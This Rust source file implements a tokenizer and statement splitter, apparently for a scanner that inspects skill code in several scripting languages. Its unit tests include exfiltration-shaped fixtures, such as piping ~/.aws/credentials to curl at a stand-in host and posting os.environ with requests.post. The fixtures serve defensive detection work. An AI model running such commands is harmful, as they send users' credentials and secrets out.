//! A light tokenizer for the languages skills carry (shell, Python, JavaScript/TypeScript,
//! PowerShell, Ruby): enough to tell code from comments and strings, to find the identifiers a
//! statement uses (the ones inside interpolating strings too) and to cut a unit into statements.
//! It never fails: any byte sequence gives tokens, in one pass, linear in the input.

/// The language of a unit of code.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Lang {
    Shell,
    Python,
    Js,
    PowerShell,
    Ruby,
}

impl Lang {
    /// The language a fence tag names, `None` for data and prose tags (`json`, `text`, …) and for
    /// no tag at all.
    pub fn from_tag(tag: &str) -> Option<Lang> {
        let tag = tag.trim().trim_start_matches('{').trim_start_matches('.');
        let word: String = tag
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric() || *c == '-' || *c == '+')
            .collect::<String>()
            .to_ascii_lowercase();
        Some(match word.as_str() {
            "sh" | "bash" | "shell" | "zsh" | "console" | "shell-session" | "shellsession"
            | "terminal" | "fish" | "ksh" | "dash" | "cmd" | "bat" | "batch" | "dockerfile"
            | "docker" | "makefile" | "make" => Lang::Shell,
            "python" | "py" | "python3" | "ipython" | "pycon" | "py3" => Lang::Python,
            "js" | "javascript" | "node" | "nodejs" | "mjs" | "cjs" | "ts" | "typescript"
            | "tsx" | "jsx" | "deno" => Lang::Js,
            "powershell" | "ps1" | "pwsh" | "ps" | "posh" => Lang::PowerShell,
            "ruby" | "rb" => Lang::Ruby,
            _ => return None,
        })
    }

    /// The language of a script, from its name or its `#!` line.
    pub fn of_script(rel: &str, text: &str) -> Option<Lang> {
        let ext = rel.rsplit_once('.').map(|(_, e)| e.to_ascii_lowercase());
        let by_ext = match ext.as_deref() {
            // Recipes of make (`.mk`) are shell, and so are a Dockerfile's `RUN` lines
            // (`python.Dockerfile`).
            Some("sh" | "bash" | "zsh" | "command" | "mk" | "dockerfile" | "containerfile") => {
                Some(Lang::Shell)
            }
            Some("py" | "pyw") => Some(Lang::Python),
            Some("js" | "mjs" | "cjs" | "ts" | "mts" | "cts" | "jsx" | "tsx") => Some(Lang::Js),
            Some("ps1" | "psm1") => Some(Lang::PowerShell),
            Some("rb" | "rake" | "gemspec") => Some(Lang::Ruby),
            // `Dockerfile.dev`.
            _ if rel.rsplit('/').next().is_some_and(|n| {
                n.starts_with("Dockerfile.") || n.starts_with("Containerfile.")
            }) =>
            {
                Some(Lang::Shell)
            }
            _ => match rel.rsplit('/').next().unwrap_or(rel) {
                "Rakefile" | "Gemfile" | "Vagrantfile" | "Guardfile" | "Podfile" | "Fastfile" => {
                    Some(Lang::Ruby)
                }
                "Makefile" | "makefile" | "GNUmakefile" | "justfile" | "Justfile" | ".justfile"
                | "Dockerfile" | "Containerfile" | "Taskfile.yml" | "Taskfile.yaml"
                | "taskfile.yml" | "taskfile.yaml" => Some(Lang::Shell),
                _ => None,
            },
        };
        by_ext.or_else(|| {
            let first = text.lines().next().unwrap_or("");
            first.strip_prefix("#!").map(|bang| {
                if bang.contains("python") {
                    Lang::Python
                } else if bang.contains("node") || bang.contains("deno") || bang.contains("bun") {
                    Lang::Js
                } else if bang.contains("pwsh") {
                    Lang::PowerShell
                } else if bang.contains("ruby") {
                    Lang::Ruby
                } else {
                    Lang::Shell
                }
            })
        })
    }

    /// A guess from the text of an untagged block.
    pub fn guess(text: &str) -> Lang {
        let has = |s: &str| text.contains(s);
        if has("import ") && (has("def ") || has("os.") || has("requests") || has("print("))
            || has("def ")
            || has("os.environ")
            || has("import os")
            || has("import requests")
        {
            Lang::Python
        } else if has("const ")
            || has("let ")
            || has("require(")
            || has("=>")
            || has("console.")
            || has("process.env")
            || has("await fetch")
        {
            Lang::Js
        } else if has("$env:") || has("Invoke-") || has("Get-") || has("Write-Host") {
            Lang::PowerShell
        } else {
            Lang::Shell
        }
    }

    fn hash_comments(self) -> bool {
        !matches!(self, Lang::Js)
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// An identifier or bare word; `var` when it is a variable reference (in shell and
    /// PowerShell only `$name` is).
    Word {
        var: bool,
    },
    /// A string literal; `interp` when it interpolates (f-strings, template literals, shell and
    /// PowerShell double quotes): its words are then references too.
    Str {
        interp: bool,
    },
    Punct(u8),
    Newline,
    Comment,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Token {
    pub kind: Kind,
    pub start: usize,
    pub end: usize,
}

fn ident_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_'
}

/// Where the comment that starts at `i` ends, when one starts there: `#` to the line end (in
/// shell only at a word's start), `//` to the line end and `/* … */` in JavaScript, `<# … #>` in
/// PowerShell; an unclosed block comment runs to the end of the text.
fn comment_end(bytes: &[u8], i: usize, lang: Lang) -> Option<usize> {
    let next = bytes.get(i + 1).copied();
    let closed = |close: &[u8]| find(bytes, i + 2, close).map_or(bytes.len(), |e| e + close.len());
    match bytes[i] {
        b'#' if lang.hash_comments()
            && (lang != Lang::Shell
                || i == 0
                || matches!(bytes[i - 1], b' ' | b'\t' | b'\n' | b';')) =>
        {
            Some(line_end(bytes, i))
        }
        b'/' if lang == Lang::Js && next == Some(b'/') => Some(line_end(bytes, i)),
        b'/' if lang == Lang::Js && next == Some(b'*') => Some(closed(b"*/")),
        b'<' if lang == Lang::PowerShell && next == Some(b'#') => Some(closed(b"#>")),
        _ => None,
    }
}

/// Tokens of `text` read as `lang`.
pub fn tokens(text: &str, lang: Lang) -> Vec<Token> {
    let bytes = text.as_bytes();
    let mut out = Vec::with_capacity(bytes.len() / 4);
    let mut i = 0;
    let n = bytes.len();
    while i < n {
        let b = bytes[i];
        let start = i;
        if let Some(end) = comment_end(bytes, i, lang) {
            out.push(Token {
                kind: Kind::Comment,
                start,
                end,
            });
            i = end;
            continue;
        }
        match b {
            b'\n' => {
                out.push(Token {
                    kind: Kind::Newline,
                    start,
                    end: i + 1,
                });
                i += 1;
            }
            b' ' | b'\t' | b'\r' => i += 1,
            // PowerShell's backtick escapes the next character; at a line end it continues
            // the line.
            b'`' if lang == Lang::PowerShell => {
                i += if bytes.get(i + 1).is_some_and(u8::is_ascii) {
                    2
                } else {
                    1
                };
            }
            b'"' | b'\'' | b'`' => {
                let prefix_interp = lang == Lang::Python
                    && out.last().is_some_and(|t: &Token| {
                        t.end == start
                            && matches!(t.kind, Kind::Word { .. })
                            && text[t.start..t.end].to_ascii_lowercase().contains('f')
                            && t.end - t.start <= 2
                    });
                let interp = match (lang, b) {
                    (Lang::Shell | Lang::PowerShell | Lang::Ruby, b'"')
                    | (Lang::Shell | Lang::Js, b'`') => true,
                    (Lang::Python, _) => prefix_interp,
                    _ => false,
                };
                i = string_end(bytes, i, lang);
                out.push(Token {
                    kind: Kind::Str { interp },
                    start,
                    end: i,
                });
            }
            b'$' if bytes
                .get(i + 1)
                .is_some_and(|c| ident_byte(*c) || *c == b'{') =>
            {
                // `$name`, `${name}`, `$env:NAME`: the name is the variable.
                let mut j = i + 1;
                if bytes[j] == b'{' {
                    j += 1;
                }
                let name_start = j;
                while j < n && (ident_byte(bytes[j]) || bytes[j] == b':') {
                    j += 1;
                }
                out.push(Token {
                    kind: Kind::Word { var: true },
                    start: name_start,
                    end: j,
                });
                i = j.max(i + 1);
            }
            _ if ident_byte(b) || b >= 0x80 => {
                let mut j = i;
                // PowerShell names are `Verb-Noun`: `Get-Profile` is one word.
                let hyphens = lang == Lang::PowerShell && b.is_ascii_alphabetic();
                while j < n
                    && (ident_byte(bytes[j])
                        || bytes[j] >= 0x80
                        || (hyphens
                            && bytes[j] == b'-'
                            && bytes.get(j + 1).is_some_and(u8::is_ascii_alphabetic)))
                {
                    j += 1;
                }
                let var = !matches!(lang, Lang::Shell | Lang::PowerShell);
                out.push(Token {
                    kind: Kind::Word { var },
                    start,
                    end: j,
                });
                i = j;
            }
            _ => {
                out.push(Token {
                    kind: Kind::Punct(b),
                    start,
                    end: i + 1,
                });
                i += 1;
            }
        }
    }
    out
}

fn line_end(bytes: &[u8], from: usize) -> usize {
    memchr::memchr(b'\n', &bytes[from..]).map_or(bytes.len(), |e| from + e)
}

fn find(bytes: &[u8], from: usize, needle: &[u8]) -> Option<usize> {
    memchr::memmem::find(bytes.get(from..)?, needle).map(|e| from + e)
}

/// The end (exclusive) of the string literal opening at `at`. Triple quotes in Python; a
/// backslash escapes, except in shell single quotes and in PowerShell (whose double quotes
/// escape with a backtick); an unclosed string ends at the line end
/// (or, for triple quotes and template literals, at the end of the text).
fn string_end(bytes: &[u8], at: usize, lang: Lang) -> usize {
    let q = bytes[at];
    let n = bytes.len();
    if lang == Lang::Python && bytes.get(at + 1) == Some(&q) && bytes.get(at + 2) == Some(&q) {
        let close = [q, q, q];
        return find(bytes, at + 3, &close).map_or(n, |e| e + 3);
    }
    let multiline = q == b'`' || lang == Lang::Shell || lang == Lang::PowerShell;
    // PowerShell escapes with a backtick, in double quotes only; its paths end in backslashes.
    let escape = match (lang, q) {
        (Lang::Shell | Lang::PowerShell, b'\'') => None,
        (Lang::PowerShell, _) => Some(b'`'),
        _ => Some(b'\\'),
    };
    let mut j = at + 1;
    while j < n {
        let c = bytes[j];
        if Some(c) == escape {
            j += 2;
            continue;
        }
        if c == q {
            return j + 1;
        }
        if c == b'\n' && !multiline {
            return j;
        }
        j += 1;
    }
    n
}

/// A statement: a range of tokens, cut at line ends outside brackets. A line continues on the
/// next when it ends with a backslash (a backtick in PowerShell), with a pipe or `&&`/`||`
/// (shell, PowerShell), or with `=`, `+`, `,`, `&&`, `||` (JavaScript), and when the next line
/// goes on with a method chain (`.replace(…)` in JavaScript and Ruby). At most
/// [`MAX_STATEMENT_LINES`] lines, so that an unclosed bracket cannot make one statement of a
/// whole file.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Statement {
    pub first: usize,
    pub last: usize,
}

pub const MAX_STATEMENT_LINES: usize = 12;

/// The statements of `toks` (over `text`).
pub fn statements(text: &str, toks: &[Token], lang: Lang) -> Vec<Statement> {
    let bytes = text.as_bytes();
    let mut out = Vec::new();
    let mut depth: usize = 0;
    let mut first = 0;
    let mut lines = 0;
    let mut prev: Option<&Token> = None;
    let mut before: Option<&Token> = None;
    for (k, tok) in toks.iter().enumerate() {
        match tok.kind {
            Kind::Punct(b'(' | b'[') => depth += 1,
            Kind::Punct(b'{') => {
                // Braces open an expression (a dict, an object) only after `=`, `(`, `,`, `:`
                // or `[`; elsewhere they open a block, whose lines are statements of their own.
                // In PowerShell `@{` opens a hashtable.
                let expression = lang == Lang::Python
                    || prev.is_some_and(|p| {
                        matches!(p.kind, Kind::Punct(b'=' | b'(' | b',' | b':' | b'['))
                            || (lang == Lang::PowerShell
                                && p.kind == Kind::Punct(b'@')
                                && p.end == tok.start)
                    });
                if expression && lang != Lang::Shell {
                    depth += 1;
                }
            }
            Kind::Punct(b')' | b']') => depth = depth.saturating_sub(1),
            Kind::Punct(b'}') if depth > 0 && lang != Lang::Shell => depth -= 1,
            Kind::Newline => {
                lines += 1;
                let escape = if lang == Lang::PowerShell {
                    b'`'
                } else {
                    b'\\'
                };
                let continued = tok.start > 0 && bytes[tok.start - 1] == escape
                    || tok.start > 1
                        && bytes[tok.start - 1] == b'\r'
                        && bytes[tok.start - 2] == escape
                    || continues(text, toks, k, (before, prev), lang);
                if (depth == 0 && !continued) || lines >= MAX_STATEMENT_LINES {
                    if k > first {
                        out.push(Statement { first, last: k });
                    }
                    first = k + 1;
                    depth = 0;
                    lines = 0;
                }
            }
            _ => {}
        }
        if !matches!(tok.kind, Kind::Newline | Kind::Comment) {
            before = prev;
            prev = Some(tok);
        }
    }
    if toks.len() > first {
        out.push(Statement {
            first,
            last: toks.len(),
        });
    }
    out
}

/// Tokens looked at past a line end for a method chain: enough to skip a few blank lines and
/// comments, bounded so that a file of blank lines stays linear.
const LOOKAHEAD: usize = 16;

/// Whether the statement before the newline `toks[k]` (whose last two code tokens are `before`
/// and `prev`) goes on on the next line: it ends with an operator that needs a right-hand side,
/// or the next line continues a method chain.
fn continues(
    text: &str,
    toks: &[Token],
    k: usize,
    (before, prev): (Option<&Token>, Option<&Token>),
    lang: Lang,
) -> bool {
    let Some(prev) = prev else {
        return false;
    };
    let punct = |t: &Token| match t.kind {
        Kind::Punct(b) => Some(b),
        _ => None,
    };
    // `&&` and `||` are two tokens: `before` is the code token before `prev`.
    let pair = |b: u8| before.is_some_and(|t| punct(t) == Some(b) && t.end == prev.start);
    let ends_with = punct(prev);
    match lang {
        Lang::Shell | Lang::PowerShell => match ends_with {
            Some(b'|') => true,
            Some(b'&') => pair(b'&'),
            _ => false,
        },
        Lang::Js | Lang::Ruby => {
            let operator = match ends_with {
                Some(b'=' | b',') => lang == Lang::Js && !pair(b'='),
                // `a +` but not `i++`.
                Some(b'+') => lang == Lang::Js && !pair(b'+'),
                Some(b'|') => pair(b'|'),
                Some(b'&') => pair(b'&'),
                _ => false,
            };
            operator
                || toks
                    .iter()
                    .skip(k + 1)
                    .take(LOOKAHEAD)
                    .find(|t| !matches!(t.kind, Kind::Newline | Kind::Comment))
                    .is_some_and(|t| {
                        punct(t) == Some(b'.')
                            && text
                                .as_bytes()
                                .get(t.end)
                                .is_some_and(|c| c.is_ascii_alphabetic() || *c == b'_')
                    })
        }
        Lang::Python => false,
    }
}

/// Extensions of the sources of programs in languages the engine does not parse.
const UNPARSED_SOURCES: &[&str] = &[
    "go",
    "php",
    "phtml",
    "pl",
    "pm",
    "t",
    "lua",
    "rs",
    "c",
    "cc",
    "cpp",
    "cxx",
    "h",
    "hpp",
    "cs",
    "java",
    "kt",
    "kts",
    "scala",
    "groovy",
    "gradle",
    "swift",
    "m",
    "mm",
    "r",
    "jl",
    "ex",
    "exs",
    "erl",
    "hs",
    "dart",
    "zig",
    "nim",
    "vb",
    "vbs",
    "bat",
    "cmd",
    "psd1",
    "applescript",
    "scpt",
    "awk",
    "sed",
    "tcl",
    "fish",
    "cr",
    "v",
    "d",
    "ml",
    "fs",
    "fsx",
    "clj",
    "cljs",
    "coffee",
    "sol",
];

/// Whether `rel` is the source of a program in a language the engine does not parse (Go, PHP,
/// Perl, Lua, Rust, C, Java, …): what its literals hide runs when it is built or run, so it is
/// no data file.
pub fn unparsed_source(rel: &str) -> bool {
    rel.rsplit_once('.')
        .is_some_and(|(_, ext)| UNPARSED_SOURCES.contains(&ext.to_ascii_lowercase().as_str()))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(text: &str, lang: Lang) -> Vec<(&str, bool)> {
        tokens(text, lang)
            .iter()
            .filter_map(|t| match t.kind {
                Kind::Word { var } => Some((&text[t.start..t.end], var)),
                _ => None,
            })
            .collect()
    }

    #[test]
    fn shell_variables_and_comments() {
        let text = "curl -d \"k=$TOKEN\" https://x/#frag # note $NOT\n";
        let toks = tokens(text, Lang::Shell);
        assert!(toks.iter().any(|t| t.kind == Kind::Str { interp: true }));
        assert!(toks.iter().any(|t| t.kind == Kind::Comment));
        assert!(words(text, Lang::Shell).contains(&("curl", false)));
    }

    #[test]
    fn python_statements_span_brackets() {
        let text = "x = dict(\n  os.environ)\nrequests.post(u, json=x)\n";
        let toks = tokens(text, Lang::Python);
        assert_eq!(statements(text, &toks, Lang::Python).len(), 2);
        let f = "f\"{a}\" 'b'";
        let toks = tokens(f, Lang::Python);
        assert_eq!(
            toks.iter()
                .filter(|t| t.kind == Kind::Str { interp: true })
                .count(),
            1
        );
    }

    fn count(text: &str, lang: Lang) -> usize {
        statements(text, &tokens(text, lang), lang).len()
    }

    #[test]
    fn continued_lines() {
        // A method chain goes on on the next line; a new statement does not.
        let chain = "const svg = fs.readFileSync('a.svg')\n  // then\n  .replace('</svg>', x);\nfetch(u, {body: svg});\n";
        assert_eq!(count(chain, Lang::Js), 2);
        assert_eq!(
            count("let a = b +\n  c;\nconst d = a &&\n  e;\n", Lang::Js),
            2
        );
        assert_eq!(count("i++\ny = 2\n", Lang::Js), 2);
        assert_eq!(count("x = 1\n[a, b].forEach(f)\n", Lang::Js), 2);
        // A pipeline or `&&` goes on; `.` at the start of a shell line is `source`.
        assert_eq!(
            count(
                "cat ~/.aws/credentials |\n  curl -d @- https://x\nls\n",
                Lang::Shell
            ),
            2
        );
        assert_eq!(count("make &&\n  make install\n", Lang::Shell), 1);
        assert_eq!(count("sleep 1 &\nls\n", Lang::Shell), 2);
        assert_eq!(count("x=1\n. ~/.bashrc\n", Lang::Shell), 2);
        assert_eq!(count("x = a\n.5\n", Lang::Python), 2);
    }

    #[test]
    fn powershell_backticks_and_paths() {
        let text = "Invoke-RestMethod -Uri $u `\n  -Body $b\n$p = \"C:\\Users\\\"\n$q = 1\n";
        assert_eq!(count(text, Lang::PowerShell), 3);
        let toks = tokens("\"a`\"b\" `é x", Lang::PowerShell);
        assert_eq!(toks.len(), 3, "{toks:?}");
    }

    #[test]
    fn js_blocks_are_not_statements() {
        let text = "function f(a) {\n  fetch(u, {\n body: a })\n}\n";
        let toks = tokens(text, Lang::Js);
        assert_eq!(statements(text, &toks, Lang::Js).len(), 3);
    }
}
